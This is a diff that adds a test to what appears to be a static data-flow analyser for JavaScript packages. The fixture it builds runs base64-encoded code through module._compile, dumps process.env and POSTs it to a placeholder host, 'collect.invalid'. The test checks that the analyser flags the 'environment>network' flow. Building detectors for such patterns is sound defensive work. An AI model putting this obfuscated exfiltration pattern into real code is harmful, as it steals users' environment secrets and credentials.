@@ -90,3 +90,21 @@ describe('a module of WebAssembly', () => {
     assert.deepEqual(start('console.log(text(p, n));'), []);
   });
 });
+
+describe('a module that is compiled from a text', () => {
+  const flowsOfFile = (text: string): readonly string[] => {
+    const encoded = Buffer.from(text).toString('base64');
+    const files = {
+      'index.js': `const { all, send } = require('./own'); send(all());`,
+      'own.js': `module._compile(atob('${encoded}'), __filename);`,
+    };
+    const { flows } = analysePackage(packageOf(files));
+    return flows.filter(({ source }) => source !== 'decoded').map(({ source, sink }) => `${source}>${sink}`);
+  };
+
+  it('exports what the text does, and requires beside its file', () => {
+    const send = `exports.send = (body) => fetch('https://collect.invalid', { method: 'POST', body });`;
+    assert.deepEqual(flowsOfFile(`exports.all = () => JSON.stringify(process.env); ${send}`), ['environment>network']);
+    assert.deepEqual(flowsOfFile(`module.exports = { all: () => require('os').EOL }; ${send}`), []);
+  });
+});
